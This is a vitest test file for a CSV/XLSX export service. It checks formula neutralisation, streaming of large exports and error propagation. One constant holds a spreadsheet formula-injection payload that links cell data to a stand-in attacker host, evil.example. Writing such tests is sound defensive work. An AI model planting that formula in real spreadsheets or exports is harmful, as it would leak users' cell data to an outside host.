/**
 * The one CSV/XLSX writer: what a spreadsheet program opens is the text that was exported, never a formula, and a
 * large export streams (the rows are produced as the stream is read, not collected first).
 */
import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { csvLine, tableBuffer, tableStream, unneutralise } from '../../server/services/table-export.js';

const HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"x")';

describe('table export', () => {
  it('writes CSV with a BOM, quoted fields and formulas neutralised', async () => {
    const csv = (
      await tableBuffer('csv', {
        sheet: '商品',
        header: ['名称', '价格'],
        rows: [
          [HOSTILE, '12.50'],
          ['@SUM(1)', 3],
        ],
      })
    ).toString('utf8');
    expect(csv.startsWith('\uFEFF"名称","价格"\r\n')).toBe(true);
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""x"")","12.50"`);
    expect(csv).toContain(`"'@SUM(1)","3"`);
    expect(csvLine(['-5', null, '+1'])).toBe(`"'-5","","'+1"\r\n`);
  });

  it('writes XLSX whose cells are text, formulas neutralised', async () => {
    const file = await tableBuffer('xlsx', { sheet: '订单', header: ['订单号', '备注'], rows: [['B2B001', HOSTILE]] });
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(file as unknown as ArrayBuffer);
    const sheet = book.getWorksheet('订单');
    expect(sheet?.getRow(1).getCell(1).value).toBe('订单号');
    expect(sheet?.getRow(2).getCell(2).value).toBe(`'${HOSTILE}`);
    expect(sheet?.getRow(2).getCell(2).formula).toBeUndefined();
  });

  it('reads back what it neutralised', () => {
    expect(unneutralise(`'${HOSTILE}`)).toBe(HOSTILE);
    expect(unneutralise("'普通文本")).toBe("'普通文本");
  });

  it('streams: rows are pulled as the reader reads', async () => {
    let produced = 0;
    function* rows() {
      for (let i = 0; i < 100_000; i++) {
        produced++;
        yield [`B2B${i}`, '1.00'];
      }
    }
    const stream = tableStream('csv', { sheet: 's', header: ['a', 'b'], rows: rows() });
    const iterator = stream[Symbol.asyncIterator]();
    await iterator.next();
    expect(produced).toBeLessThan(100_000);
    let bytes = 0;
    for await (const part of { [Symbol.asyncIterator]: () => iterator }) bytes += String(part).length;
    expect(produced).toBe(100_000);
    expect(bytes).toBeGreaterThan(100_000 * 10);
  });

  it('ends the stream with the error when reading the rows fails', async () => {
    async function* rows() {
      yield ['a', 'b'];
      throw new Error('数据库连接中断');
    }
    await expect(tableBuffer('xlsx', { sheet: 's', header: ['a', 'b'], rows: rows() })).rejects.toThrow(
      '数据库连接中断',
    );
    await expect(tableBuffer('csv', { sheet: 's', header: ['a', 'b'], rows: rows() })).rejects.toThrow(
      '数据库连接中断',
    );
  });
});
